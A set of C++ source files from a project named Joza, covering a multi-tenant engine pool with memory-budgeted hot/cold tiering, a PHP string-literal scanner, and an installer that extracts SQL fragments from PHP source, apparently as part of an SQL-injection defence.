    std::unique_ptr<ipc::DaemonPool> pool;
    std::unique_ptr<core::Joza> engine;
    ~EngineHandle();
  };

  std::string ColdPath(std::string_view id) const;
  // Builds a hot handle for `entry` from its cold image (preferred) or
  // seed vocabulary. Called with the fleet lock released; the entry's
  // promoting flag keeps its tier fields stable.
  StatusOr<std::shared_ptr<EngineHandle>> BuildHandle(TenantEntry& entry);
  // Serializes `entry`'s ruleset into the cold store and drops the hot
  // handle. Lock held on entry and exit; released around the I/O.
  Status DemoteLocked(std::unique_lock<std::mutex>& lock,
                      TenantEntry& entry);
  // Evicts lowest-score residents until `need` more bytes fit. Lock held.
  Status ReserveLocked(std::unique_lock<std::mutex>& lock,
                       TenantEntry& self, std::uint64_t need);
  TenantEntry* PickVictimLocked(const TenantEntry* exclude);
  double ScoreLocked(const TenantEntry& entry) const;

  FleetOptions options_;

  mutable std::mutex mu_;
  std::condition_variable cv_;
  // unique_ptr entries: stable addresses across rehashing, so waiting
  // promoters can hold TenantEntry* across cv waits.
  std::unordered_map<std::string, std::unique_ptr<TenantEntry>> tenants_;
  std::uint64_t tick_ = 0;  // advances per Acquire; drives EWMA decay
  std::size_t active_promotions_ = 0;
  bool cold_dir_ready_ = false;

  // Ledger (all guarded by mu_).
  std::uint64_t resident_bytes_ = 0;
  std::uint64_t peak_resident_bytes_ = 0;
  std::uint64_t requests_ = 0;
  std::uint64_t cold_loads_ = 0;
  std::uint64_t demotions_ = 0;
  std::uint64_t promote_waits_ = 0;
  std::uint64_t acquire_failures_ = 0;
};

}  // namespace joza::tenant
