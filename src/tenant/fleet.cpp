#include "tenant/fleet.h"

#include <sys/stat.h>

#include <algorithm>
#include <cmath>
#include <utility>

#include "util/mmap_resource.h"

namespace joza::tenant {

namespace {

// Hot-footprint model, deliberately coarse but self-consistent: the
// residency ledger charges and refunds the same estimate, so the budget
// invariant (ledger <= budget) holds exactly regardless of how closely the
// model tracks real RSS. The dominant term is the dense Aho–Corasick
// automaton (~1 KiB per node, roughly one node per vocabulary byte); the
// per-tenant floor covers engine bookkeeping, and the cache term covers
// the sharded verdict caches at capacity.
constexpr std::uint64_t kTenantBaseBytes = 64 * 1024;
constexpr std::uint64_t kBytesPerVocabularyByte = 1100;
constexpr std::uint64_t kBytesPerCacheSlot = 32;

std::uint64_t EstimateFromContentBytes(std::uint64_t content_bytes,
                                       const core::JozaConfig& config) {
  return kTenantBaseBytes + content_bytes * kBytesPerVocabularyByte +
         static_cast<std::uint64_t>(config.cache_capacity) *
             kBytesPerCacheSlot;
}

}  // namespace

bool ValidTenantId(std::string_view id) {
  if (id.empty() || id.size() > kMaxTenantIdBytes) return false;
  for (const char c : id) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '_' || c == '-';
    if (!ok) return false;
  }
  return true;
}

// One tenant's full residency state. Tier fields (hot/cold/seed/version)
// are guarded by the fleet mutex except while `promoting` or `demoting` is
// set, in which case the flag owner manipulates them with the lock
// released and everyone else waits.
struct Fleet::TenantEntry {
  std::string id;

  // Hot tier: null while cold. shared_ptr so demotion can drop the
  // fleet's reference while in-flight pins keep the engine alive.
  std::shared_ptr<EngineHandle> hot;

  // Cold tier: the mmap'd JZSNAP01 image (authoritative once a demotion
  // has happened) or the seed vocabulary (before the first demotion).
  util::MmapResource cold;
  bool has_cold = false;
  php::FragmentSet seed;

  std::uint64_t version = 0;        // ruleset version while cold
  std::uint64_t bytes_estimate = 0; // next promotion's ledger charge
  std::uint64_t charged_bytes = 0;  // current ledger charge (0 when cold)

  bool resident = false;
  bool promoting = false;
  bool demoting = false;
  bool pending_snapshot_load = false;  // warm start not yet counted

  // Access accounting for the eviction score.
  double ewma = 0;
  std::uint64_t last_touch = 0;

  std::uint64_t requests = 0;
  std::uint64_t cold_loads = 0;
  std::uint64_t demotions = 0;
  core::JozaStats accum;  // engine stats from completed residencies
};

Fleet::EngineHandle::~EngineHandle() = default;

Fleet::Fleet(FleetOptions options) : options_(std::move(options)) {
  if (options_.ewma_decay <= 0 || options_.ewma_decay > 1) {
    options_.ewma_decay = 0.98;
  }
  if (options_.max_concurrent_promotions == 0) {
    options_.max_concurrent_promotions = 1;
  }
  if (!options_.cold_dir.empty()) {
    ::mkdir(options_.cold_dir.c_str(), 0755);  // EEXIST is fine
    cold_dir_ready_ = true;
  }
}

Fleet::~Fleet() = default;

std::string Fleet::ColdPath(std::string_view id) const {
  std::string path = options_.cold_dir;
  path += '/';
  path.append(id);
  path += ".ruleset";
  return path;
}

std::uint64_t Fleet::EstimateHotBytes(const php::FragmentSet& fragments,
                                      const core::JozaConfig& config) {
  std::uint64_t content = 0;
  for (const php::Fragment& f : fragments.fragments()) {
    content += f.text.size();
  }
  return EstimateFromContentBytes(content, config);
}

Status Fleet::AddTenant(std::string_view id, php::FragmentSet seed) {
  if (!ValidTenantId(id)) {
    return Status::InvalidArgument("invalid tenant id: \"" +
                                   std::string(id) + "\"");
  }
  if (options_.memory_budget_bytes > 0 && options_.cold_dir.empty()) {
    return Status::InvalidArgument(
        "a memory budget requires a cold_dir to demote into");
  }
  std::lock_guard<std::mutex> lock(mu_);
  const std::string key(id);
  if (tenants_.count(key) > 0) {
    return Status::InvalidArgument("duplicate tenant id: " + key);
  }
  auto entry = std::make_unique<TenantEntry>();
  entry->id = key;
  entry->seed = std::move(seed);
  if (!options_.snapshot_base.empty()) {
    auto recovered = resilience::LoadTenantRulesetSnapshot(
        options_.snapshot_base, id);
    if (recovered.ok()) {
      // Continue the persisted version line instead of the seed's zero.
      // Any load anomaly (corrupt file, checksum mismatch) falls through
      // to a cold start from the seed — the established snapshot-recovery
      // semantic; it narrows the vocabulary, never widens it.
      entry->seed = std::move(recovered.value().fragments);
      entry->version = recovered.value().version;
      entry->pending_snapshot_load = true;
    }
  }
  entry->bytes_estimate = EstimateHotBytes(entry->seed, options_.engine);
  tenants_.emplace(key, std::move(entry));
  return Status::Ok();
}

bool Fleet::Has(std::string_view id) const {
  std::lock_guard<std::mutex> lock(mu_);
  return tenants_.count(std::string(id)) > 0;
}

std::vector<std::string> Fleet::TenantIds() const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<std::string> ids;
  ids.reserve(tenants_.size());
  for (const auto& [id, entry] : tenants_) ids.push_back(id);
  std::sort(ids.begin(), ids.end());
  return ids;
}

double Fleet::ScoreLocked(const TenantEntry& entry) const {
  const double decayed =
      entry.ewma * std::pow(options_.ewma_decay,
                            static_cast<double>(tick_ - entry.last_touch));
  // Knapsack value density: decayed access rate per resident byte. The
  // cheapest-to-keep tenant has the lowest score and is demoted first.
  return decayed /
         static_cast<double>(std::max<std::uint64_t>(entry.charged_bytes, 1));
}

Fleet::TenantEntry* Fleet::PickVictimLocked(const TenantEntry* exclude) {
  TenantEntry* victim = nullptr;
  double victim_score = 0;
  for (auto& [id, entry] : tenants_) {
    TenantEntry* e = entry.get();
    if (e == exclude || !e->hot || e->promoting || e->demoting) continue;
    const double score = ScoreLocked(*e);
    if (victim == nullptr || score < victim_score) {
      victim = e;
      victim_score = score;
    }
  }
  return victim;
}

Status Fleet::DemoteLocked(std::unique_lock<std::mutex>& lock,
                           TenantEntry& entry) {
  if (!entry.hot) return Status::Ok();
  entry.demoting = true;
  std::shared_ptr<EngineHandle> handle = entry.hot;  // alive across the I/O
  lock.unlock();

  // Serialize the tenant's published ruleset through the crash-durable
  // codec. The engine stays fully serviceable during the write — racing
  // checks hold their own pins — so nothing here is on any request's
  // critical path except the promoter waiting for the freed bytes.
  const std::shared_ptr<const core::RulesetSnapshot> snapshot =
      handle->engine->ruleset();
  const std::uint64_t version = snapshot->version;
  const std::string image =
      resilience::EncodeRulesetSnapshot(snapshot->pti->fragments(), version);
  const std::string path = ColdPath(entry.id);
  Status persisted = util::WriteFileDurable(path, image);
  util::MmapResource mapped;
  if (persisted.ok()) {
    auto m = util::MmapResource::Map(path);
    if (m.ok()) {
      mapped = std::move(m).value();
    } else {
      persisted = m.status();
    }
  }
  const core::JozaStats final_stats = handle->engine->stats();

  lock.lock();
  entry.demoting = false;
  if (!persisted.ok()) {
    // The cold store refused the image: keep the tenant hot (dropping the
    // engine would lose the vocabulary — fail-closed means refusing the
    // demotion, not the tenant's future requests).
    cv_.notify_all();
    return persisted;
  }
  entry.accum += final_stats;
  entry.version = version;
  entry.cold = std::move(mapped);
  entry.has_cold = true;
  entry.seed = php::FragmentSet();  // the cold image is authoritative now
  entry.bytes_estimate =
      EstimateFromContentBytes(image.size(), options_.engine);
  entry.hot.reset();  // in-flight pins keep the engine alive (RCU)
  entry.resident = false;
  resident_bytes_ -= entry.charged_bytes;
  entry.charged_bytes = 0;
  ++entry.demotions;
  ++demotions_;
  cv_.notify_all();
  return Status::Ok();
}

Status Fleet::ReserveLocked(std::unique_lock<std::mutex>& lock,
                            TenantEntry& self, std::uint64_t need) {
  if (options_.memory_budget_bytes == 0) return Status::Ok();
  while (resident_bytes_ + need > options_.memory_budget_bytes) {
    TenantEntry* victim = PickVictimLocked(&self);
    if (victim == nullptr) {
      bool any_demoting = false;
      for (const auto& [id, entry] : tenants_) {
        if (entry->demoting) {
          any_demoting = true;
          break;
        }
      }
      if (any_demoting) {
        // Someone else's demotion is about to free bytes; wait for it
        // rather than failing a request that is one eviction away.
        cv_.wait(lock);
        continue;
      }
      return Status::Unavailable(
          "memory budget cannot admit tenant " + self.id + " (" +
          std::to_string(need) + " bytes needed, " +
          std::to_string(options_.memory_budget_bytes -
                         std::min(resident_bytes_,
                                  options_.memory_budget_bytes)) +
          " free, nothing evictable)");
    }
    if (Status st = DemoteLocked(lock, *victim); !st.ok()) return st;
  }
  return Status::Ok();
}

StatusOr<std::shared_ptr<Fleet::EngineHandle>> Fleet::BuildHandle(
    TenantEntry& entry) {
  php::FragmentSet fragments;
  std::uint64_t version = entry.version;
  if (entry.has_cold) {
    // Promotion path: re-parse the ruleset straight out of the mapping.
    // Fail-closed: a corrupt image is an error, never an empty vocabulary.
    auto parsed = resilience::ParseRulesetSnapshot(entry.cold.view());
    if (!parsed.ok()) {
      return Status::Unavailable("tenant " + entry.id +
                                 " cold store unreadable: " +
                                 parsed.status().message());
    }
    fragments = std::move(parsed.value().fragments);
    version = parsed.value().version;
  } else {
    fragments = entry.seed;  // first promotion; seed kept until demoted
  }

  auto handle = std::make_shared<EngineHandle>();
  core::JozaConfig config = options_.engine;
  config.initial_ruleset_version = version;
  if (options_.use_daemon_pool) {
    ipc::DaemonPool::Options pool_options = options_.pool;
    pool_options.base_version = version;
    handle->pool = std::make_unique<ipc::DaemonPool>(fragments, pool_options,
                                                     config.pti);
  }
  handle->engine =
      std::make_unique<core::Joza>(std::move(fragments), config);
  if (handle->pool) {
    handle->engine->SetPtiBackend(handle->pool->AsPtiBackend());
  }
  if (!options_.snapshot_base.empty()) {
    const std::string path =
        resilience::TenantSnapshotPath(options_.snapshot_base, entry.id);
    handle->engine->SetSnapshotSink(
        [path](const php::FragmentSet& fragments, std::uint64_t version) {
          return resilience::SaveRulesetSnapshot(path, fragments, version);
        });
  }
  return handle;
}

StatusOr<Fleet::EnginePin> Fleet::Acquire(std::string_view id,
                                          std::size_t weight) {
  std::unique_lock<std::mutex> lock(mu_);
  auto it = tenants_.find(std::string(id));
  if (it == tenants_.end()) {
    return Status::NotFound("unknown tenant: " + std::string(id));
  }
  TenantEntry& entry = *it->second;

  const std::uint64_t now = ++tick_;
  entry.ewma = entry.ewma * std::pow(options_.ewma_decay,
                                     static_cast<double>(
                                         now - entry.last_touch)) +
               static_cast<double>(weight);
  entry.last_touch = now;
  entry.requests += weight;
  requests_ += weight;

  for (;;) {
    if (entry.hot) {
      // RCU pin: the shared_ptr keeps the whole handle (engine + daemon
      // pool) alive past any concurrent demotion.
      return EnginePin(entry.hot, entry.hot->engine.get());
    }
    if (entry.promoting || entry.demoting) {
      // Stampede coalescing: exactly one thread rebuilds; the rest wait
      // for its publish instead of racing duplicate automaton builds.
      ++promote_waits_;
      cv_.wait(lock);
      continue;
    }
    break;
  }

  // This thread owns the promotion. The global gate bounds concurrent
  // rebuilds fleet-wide so a cold-tenant stampede degrades to a queue,
  // not a fork-bomb of automaton constructions.
  entry.promoting = true;
  while (active_promotions_ >= options_.max_concurrent_promotions) {
    ++promote_waits_;
    cv_.wait(lock);
  }
  ++active_promotions_;

  const std::uint64_t need = entry.bytes_estimate;
  if (Status reserved = ReserveLocked(lock, entry, need); !reserved.ok()) {
    --active_promotions_;
    entry.promoting = false;
    ++acquire_failures_;
    cv_.notify_all();
    return reserved;
  }
  // Charge the ledger before building so a racing promoter sees the
  // reservation and evicts accordingly; the budget invariant holds at
  // every instant, not just between promotions.
  resident_bytes_ += need;
  entry.charged_bytes = need;
  peak_resident_bytes_ = std::max(peak_resident_bytes_, resident_bytes_);

  lock.unlock();
  auto built = BuildHandle(entry);
  lock.lock();

  --active_promotions_;
  entry.promoting = false;
  if (!built.ok()) {
    resident_bytes_ -= entry.charged_bytes;
    entry.charged_bytes = 0;
    ++acquire_failures_;
    cv_.notify_all();
    return built.status();
  }
  entry.hot = std::move(built).value();
  entry.resident = true;
  if (entry.pending_snapshot_load) {
    entry.hot->engine->NoteSnapshotLoad();
    entry.pending_snapshot_load = false;
  }
  ++entry.cold_loads;
  ++cold_loads_;
  cv_.notify_all();
  return EnginePin(entry.hot, entry.hot->engine.get());
}

Status Fleet::Demote(std::string_view id) {
  if (options_.cold_dir.empty()) {
    return Status::InvalidArgument("no cold_dir configured");
  }
  std::unique_lock<std::mutex> lock(mu_);
  auto it = tenants_.find(std::string(id));
  if (it == tenants_.end()) {
    return Status::NotFound("unknown tenant: " + std::string(id));
  }
  TenantEntry& entry = *it->second;
  while (entry.promoting || entry.demoting) cv_.wait(lock);
  return DemoteLocked(lock, entry);
}

Status Fleet::OnSourcesChanged(std::string_view id,
                               const std::vector<php::SourceFile>& files) {
  std::shared_ptr<EngineHandle> handle;
  {
    std::lock_guard<std::mutex> lock(mu_);
    auto it = tenants_.find(std::string(id));
    if (it == tenants_.end()) {
      return Status::NotFound("unknown tenant: " + std::string(id));
    }
    handle = it->second->hot;
  }
  if (!handle) {
    return Status::Unavailable("tenant " + std::string(id) +
                               " is cold; updates apply on promotion");
  }
  handle->engine->OnSourcesChanged(files);
  return Status::Ok();
}

void Fleet::ReapIdle() {
  std::vector<std::shared_ptr<EngineHandle>> handles;
  {
    std::lock_guard<std::mutex> lock(mu_);
    for (const auto& [id, entry] : tenants_) {
      if (entry->hot && entry->hot->pool) handles.push_back(entry->hot);
    }
  }
  for (const auto& handle : handles) handle->pool->ReapIdle();
}

FleetStats Fleet::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  FleetStats out;
  out.tenants = tenants_.size();
  for (const auto& [id, entry] : tenants_) {
    if (entry->hot) ++out.resident;
  }
  out.budget_bytes = options_.memory_budget_bytes;
  out.resident_bytes = resident_bytes_;
  out.peak_resident_bytes = peak_resident_bytes_;
  out.requests = requests_;
  out.cold_loads = cold_loads_;
  out.demotions = demotions_;
  out.promote_waits = promote_waits_;
  out.acquire_failures = acquire_failures_;
  return out;
}

std::vector<TenantInfo> Fleet::TenantInfos() const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<TenantInfo> infos;
  infos.reserve(tenants_.size());
  for (const auto& [id, entry] : tenants_) {
    TenantInfo info;
    info.id = id;
    info.resident = entry->hot != nullptr;
    info.resident_bytes = entry->charged_bytes;
    info.requests = entry->requests;
    info.cold_loads = entry->cold_loads;
    info.demotions = entry->demotions;
    info.engine = entry->accum;
    if (entry->hot) {
      info.engine += entry->hot->engine->stats();
      info.ruleset_version = entry->hot->engine->ruleset_version();
    } else {
      info.ruleset_version = entry->version;
    }
    infos.push_back(std::move(info));
  }
  std::sort(infos.begin(), infos.end(),
            [](const TenantInfo& a, const TenantInfo& b) {
              return a.id < b.id;
            });
  return infos;
}

core::JozaStats Fleet::AggregateEngineStats() const {
  std::lock_guard<std::mutex> lock(mu_);
  core::JozaStats out;
  for (const auto& [id, entry] : tenants_) {
    out += entry->accum;
    if (entry->hot) out += entry->hot->engine->stats();
  }
  return out;
}

}  // namespace joza::tenant
