// PHP-subset source scanner.
//
// Joza's installer recursively parses every source file of the protected
// application and extracts string literals (Section IV-A). This scanner
// understands enough PHP to do that faithfully: single-quoted strings
// (literal, \' and \\ escapes only), double-quoted strings (full escapes and
// $variable / {$expr} interpolation), heredocs, and both comment styles —
// so string-looking text inside comments is NOT extracted.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace joza::php {

struct StringLiteral {
  std::string value;       // decoded value with interpolations removed
  // For interpolated strings the literal is pre-split: each element is the
  // constant text between interpolation points.
  std::vector<std::string> pieces;
  std::size_t line = 0;
  bool interpolated = false;
};

// Extracts all string literals from PHP source text.
std::vector<StringLiteral> ExtractStringLiterals(std::string_view source);

}  // namespace joza::php
