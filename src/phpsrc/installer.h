// Filesystem installer (Section IV-A).
//
// "A web application in PHP is typically a collection of PHP source code
// files residing in one top-level directory and several subdirectories.
// Joza recursively parses all source code files reachable from the top
// directory." This module is that step: a recursive scan that loads
// every PHP-like source file and extracts the fragment vocabulary.
#pragma once

#include <string>
#include <vector>

#include "phpsrc/fragments.h"
#include "util/status.h"

namespace joza::php {

struct ScanOptions {
  // File extensions treated as source (lowercase, with dot).
  std::vector<std::string> extensions = {".php", ".inc", ".phtml"};
  // Directories skipped entirely (VCS internals, caches).
  std::vector<std::string> skip_directories = {".git", ".svn", "cache"};
  // Files larger than this are skipped (matches production installers that
  // refuse to parse blobs mislabelled as source).
  std::size_t max_file_bytes = 8u << 20;
};

struct ScanReport {
  std::size_t files_scanned = 0;
  std::size_t files_skipped = 0;
  std::size_t bytes_scanned = 0;
  std::vector<std::string> scanned_paths;
};

// Loads all source files under `root` (recursively).
StatusOr<std::vector<SourceFile>> LoadSourceTree(const std::string& root,
                                                 const ScanOptions& options,
                                                 ScanReport* report);

// Full installation: scan + fragment extraction in one call.
StatusOr<FragmentSet> InstallFromDirectory(const std::string& root,
                                           const ScanOptions& options = {},
                                           ScanReport* report = nullptr);

// Writes a fragment set to a file (one record per fragment, length-prefixed
// so fragment text may contain any byte) and reads it back. This is how a
// long-lived daemon cold-starts without re-scanning the application.
Status SaveFragments(const FragmentSet& set, const std::string& path);
StatusOr<FragmentSet> LoadFragments(const std::string& path);

}  // namespace joza::php
