#include "phpsrc/php_lexer.h"

#include "util/strings.h"

namespace joza::php {

namespace {

class Scanner {
 public:
  explicit Scanner(std::string_view src) : src_(src) {}

  std::vector<StringLiteral> Run() {
    while (pos_ < src_.size()) {
      const char c = src_[pos_];
      if (c == '\n') {
        ++line_;
        ++pos_;
        continue;
      }
      if (c == '/' && Peek(1) == '/') {
        SkipLineComment();
        continue;
      }
      if (c == '#') {
        SkipLineComment();
        continue;
      }
      if (c == '/' && Peek(1) == '*') {
        SkipBlockComment();
        continue;
      }
      if (c == '\'') {
        ScanSingleQuoted();
        continue;
      }
      if (c == '"') {
        ScanDoubleQuoted();
        continue;
      }
      if (c == '<' && src_.substr(pos_).starts_with("<<<")) {
        ScanHeredoc();
        continue;
      }
      ++pos_;
    }
    return literals_;
  }

 private:
  char Peek(std::size_t ahead = 0) const {
    return pos_ + ahead < src_.size() ? src_[pos_ + ahead] : '\0';
  }

  void SkipLineComment() {
    while (pos_ < src_.size() && src_[pos_] != '\n') ++pos_;
  }

  void SkipBlockComment() {
    pos_ += 2;
    while (pos_ + 1 < src_.size()) {
      if (src_[pos_] == '\n') ++line_;
      if (src_[pos_] == '*' && src_[pos_ + 1] == '/') {
        pos_ += 2;
        return;
      }
      ++pos_;
    }
    pos_ = src_.size();
  }

  // 'literal': only \' and \\ are escapes, everything else is verbatim.
  void ScanSingleQuoted() {
    ++pos_;
    StringLiteral lit;
    lit.line = line_;
    std::string value;
    while (pos_ < src_.size()) {
      char c = src_[pos_];
      if (c == '\\' && (Peek(1) == '\'' || Peek(1) == '\\')) {
        value.push_back(Peek(1));
        pos_ += 2;
        continue;
      }
      if (c == '\'') {
        ++pos_;
        lit.value = value;
        lit.pieces.push_back(std::move(value));
        literals_.push_back(std::move(lit));
        return;
      }
      if (c == '\n') ++line_;
      value.push_back(c);
      ++pos_;
    }
    // Unterminated string: drop it (real PHP would be a parse error).
  }

  // "text $var more {$expr} end": escapes are decoded, interpolation points
  // split the literal into constant pieces.
  void ScanDoubleQuoted() {
    ++pos_;
    StringLiteral lit;
    lit.line = line_;
    std::string piece;
    auto flush_piece = [&] {
      lit.pieces.push_back(piece);
      lit.value += piece;
      piece.clear();
    };
    while (pos_ < src_.size()) {
      char c = src_[pos_];
      if (c == '\\' && pos_ + 1 < src_.size()) {
        char n = Peek(1);
        switch (n) {
          case 'n': piece.push_back('\n'); break;
          case 't': piece.push_back('\t'); break;
          case 'r': piece.push_back('\r'); break;
          case '"': piece.push_back('"'); break;
          case '$': piece.push_back('$'); break;
          case '\\': piece.push_back('\\'); break;
          default:
            piece.push_back('\\');
            piece.push_back(n);
            break;
        }
        pos_ += 2;
        continue;
      }
      if (c == '$' && (IsAsciiAlpha(Peek(1)) || Peek(1) == '_')) {
        // $variable[index] or $object->member interpolation.
        lit.interpolated = true;
        flush_piece();
        pos_ += 2;
        while (pos_ < src_.size() &&
               (IsAsciiAlnum(src_[pos_]) || src_[pos_] == '_')) {
          ++pos_;
        }
        if (Peek() == '[') {  // simple array index
          while (pos_ < src_.size() && src_[pos_] != ']') ++pos_;
          if (pos_ < src_.size()) ++pos_;
        } else if (Peek() == '-' && Peek(1) == '>') {
          pos_ += 2;
          while (pos_ < src_.size() &&
                 (IsAsciiAlnum(src_[pos_]) || src_[pos_] == '_')) {
            ++pos_;
          }
        }
        continue;
      }
      if (c == '{' && Peek(1) == '$') {  // {$expr} interpolation
        lit.interpolated = true;
        flush_piece();
        int depth = 1;
        pos_ += 2;
        while (pos_ < src_.size() && depth > 0) {
          if (src_[pos_] == '{') ++depth;
          if (src_[pos_] == '}') --depth;
          if (src_[pos_] == '\n') ++line_;
          ++pos_;
        }
        continue;
      }
      if (c == '"') {
        ++pos_;
        flush_piece();
        literals_.push_back(std::move(lit));
        return;
      }
      if (c == '\n') ++line_;
      piece.push_back(c);
      ++pos_;
    }
  }

  // <<<TAG ... TAG; — treated like a double-quoted string with interpolation.
  void ScanHeredoc() {
    pos_ += 3;
    bool nowdoc = false;
    if (Peek() == '\'') {
      nowdoc = true;
      ++pos_;
    } else if (Peek() == '"') {
      ++pos_;
    }
    std::string tag;
    while (pos_ < src_.size() &&
           (IsAsciiAlnum(src_[pos_]) || src_[pos_] == '_')) {
      tag.push_back(src_[pos_]);
      ++pos_;
    }
    if (Peek() == '\'' || Peek() == '"') ++pos_;
    while (pos_ < src_.size() && src_[pos_] != '\n') ++pos_;
    if (pos_ < src_.size()) {
      ++pos_;
      ++line_;
    }
    if (tag.empty()) return;

    StringLiteral lit;
    lit.line = line_;
    std::string piece;
    auto flush_piece = [&] {
      lit.pieces.push_back(piece);
      lit.value += piece;
      piece.clear();
    };
    while (pos_ < src_.size()) {
      // Terminator: the tag at the start of a line.
      if ((pos_ == 0 || src_[pos_ - 1] == '\n') &&
          src_.substr(pos_).starts_with(tag)) {
        pos_ += tag.size();
        break;
      }
      char c = src_[pos_];
      if (!nowdoc && c == '$' && (IsAsciiAlpha(Peek(1)) || Peek(1) == '_')) {
        lit.interpolated = true;
        flush_piece();
        pos_ += 2;
        while (pos_ < src_.size() &&
               (IsAsciiAlnum(src_[pos_]) || src_[pos_] == '_')) {
          ++pos_;
        }
        continue;
      }
      if (c == '\n') ++line_;
      piece.push_back(c);
      ++pos_;
    }
    flush_piece();
    literals_.push_back(std::move(lit));
  }

  std::string_view src_;
  std::size_t pos_ = 0;
  std::size_t line_ = 1;
  std::vector<StringLiteral> literals_;
};

}  // namespace

std::vector<StringLiteral> ExtractStringLiterals(std::string_view source) {
  return Scanner(source).Run();
}

}  // namespace joza::php
