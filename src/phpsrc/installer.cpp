#include "phpsrc/installer.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "util/strings.h"

namespace joza::php {

namespace fs = std::filesystem;

namespace {

bool HasSourceExtension(const fs::path& path, const ScanOptions& options) {
  std::string ext = ToLower(path.extension().string());
  return std::find(options.extensions.begin(), options.extensions.end(),
                   ext) != options.extensions.end();
}

bool IsSkippedDirectory(const fs::path& path, const ScanOptions& options) {
  std::string name = path.filename().string();
  return std::find(options.skip_directories.begin(),
                   options.skip_directories.end(),
                   name) != options.skip_directories.end();
}

StatusOr<std::string> ReadFile(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) {
    return Status::Unavailable("cannot open " + path.string());
  }
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

void AppendU32(std::string& out, std::uint32_t v) {
  out.push_back(static_cast<char>(v & 0xff));
  out.push_back(static_cast<char>((v >> 8) & 0xff));
  out.push_back(static_cast<char>((v >> 16) & 0xff));
  out.push_back(static_cast<char>((v >> 24) & 0xff));
}

}  // namespace

StatusOr<std::vector<SourceFile>> LoadSourceTree(const std::string& root,
                                                 const ScanOptions& options,
                                                 ScanReport* report) {
  std::error_code ec;
  if (!fs::is_directory(root, ec)) {
    return Status::NotFound("not a directory: " + root);
  }
  std::vector<SourceFile> files;
  ScanReport local;
  ScanReport& r = report != nullptr ? *report : local;
  r = ScanReport{};

  fs::recursive_directory_iterator it(root, ec), end;
  if (ec) {
    return Status::Unavailable("cannot scan " + root + ": " + ec.message());
  }
  for (; it != end; it.increment(ec)) {
    if (ec) {
      return Status::Unavailable("scan error under " + root + ": " +
                                 ec.message());
    }
    const fs::directory_entry& entry = *it;
    if (entry.is_directory(ec)) {
      if (IsSkippedDirectory(entry.path(), options)) {
        it.disable_recursion_pending();
      }
      continue;
    }
    if (!entry.is_regular_file(ec)) continue;
    if (!HasSourceExtension(entry.path(), options)) {
      ++r.files_skipped;
      continue;
    }
    if (entry.file_size(ec) > options.max_file_bytes) {
      ++r.files_skipped;
      continue;
    }
    auto content = ReadFile(entry.path());
    if (!content.ok()) return content.status();
    ++r.files_scanned;
    r.bytes_scanned += content.value().size();
    r.scanned_paths.push_back(entry.path().string());
    files.push_back(SourceFile{entry.path().lexically_relative(root).string(),
                               std::move(content.value())});
  }
  // Deterministic order regardless of directory iteration order.
  std::sort(files.begin(), files.end(),
            [](const SourceFile& a, const SourceFile& b) {
              return a.path < b.path;
            });
  std::sort(r.scanned_paths.begin(), r.scanned_paths.end());
  return files;
}

StatusOr<FragmentSet> InstallFromDirectory(const std::string& root,
                                           const ScanOptions& options,
                                           ScanReport* report) {
  auto files = LoadSourceTree(root, options, report);
  if (!files.ok()) return files.status();
  return FragmentSet::FromSources(files.value());
}

Status SaveFragments(const FragmentSet& set, const std::string& path) {
  std::string blob = "JZFR\x01";
  AppendU32(blob, static_cast<std::uint32_t>(set.size()));
  for (const Fragment& f : set.fragments()) {
    AppendU32(blob, static_cast<std::uint32_t>(f.text.size()));
    blob += f.text;
    AppendU32(blob, static_cast<std::uint32_t>(f.source_path.size()));
    blob += f.source_path;
    AppendU32(blob, static_cast<std::uint32_t>(f.line));
  }
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  if (!out) return Status::Unavailable("cannot write " + path);
  out.write(blob.data(), static_cast<std::streamsize>(blob.size()));
  if (!out) return Status::Unavailable("short write to " + path);
  return Status::Ok();
}

StatusOr<FragmentSet> LoadFragments(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return Status::NotFound("cannot open " + path);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  std::string blob = buffer.str();

  std::size_t pos = 0;
  auto take_u32 = [&](std::uint32_t* v) -> bool {
    if (pos + 4 > blob.size()) return false;
    *v = static_cast<std::uint8_t>(blob[pos]) |
         (static_cast<std::uint8_t>(blob[pos + 1]) << 8) |
         (static_cast<std::uint8_t>(blob[pos + 2]) << 16) |
         (static_cast<std::uint32_t>(static_cast<std::uint8_t>(blob[pos + 3]))
          << 24);
    pos += 4;
    return true;
  };
  auto take_str = [&](std::string* s) -> bool {
    std::uint32_t len = 0;
    if (!take_u32(&len)) return false;
    if (pos + len > blob.size()) return false;
    s->assign(blob, pos, len);
    pos += len;
    return true;
  };

  if (blob.size() < 5 || blob.compare(0, 5, "JZFR\x01") != 0) {
    return Status::ParseError("bad fragment file header");
  }
  pos = 5;
  std::uint32_t count = 0;
  if (!take_u32(&count)) return Status::ParseError("truncated fragment file");
  FragmentSet set;
  for (std::uint32_t i = 0; i < count; ++i) {
    std::string text, source;
    std::uint32_t line = 0;
    if (!take_str(&text) || !take_str(&source) || !take_u32(&line)) {
      return Status::ParseError("truncated fragment record");
    }
    set.AddRaw(text, source, line);
  }
  return set;
}

}  // namespace joza::php
