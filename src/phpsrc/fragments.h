// Application fragment extraction for PTI (Section IV-A).
//
// The installer walks every source file of the application (core + plugins),
// pulls out string literals, splits them at interpolation/placeholder
// points, and retains only the pieces containing at least one valid SQL
// token. The surviving set is PTI's trust vocabulary.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>
#include <unordered_set>
#include <vector>

namespace joza::php {

struct SourceFile {
  std::string path;
  std::string content;
};

struct Fragment {
  std::string text;
  std::string source_path;
  std::size_t line = 0;
};

// Splits a literal piece at sprintf-style placeholders (%s, %d, %f, %u,
// %1$s, %%, ...) returning the constant parts.
std::vector<std::string> SplitAtPlaceholders(std::string_view piece);

class FragmentSet {
 public:
  // Extracts fragments from one in-memory source file and adds them.
  void AddSource(const SourceFile& file);

  // Adds a raw fragment directly (used by tests and by incremental
  // re-installation when a plugin is updated). Applies the same SQL-token
  // filter and deduplication as AddSource. Returns true if retained.
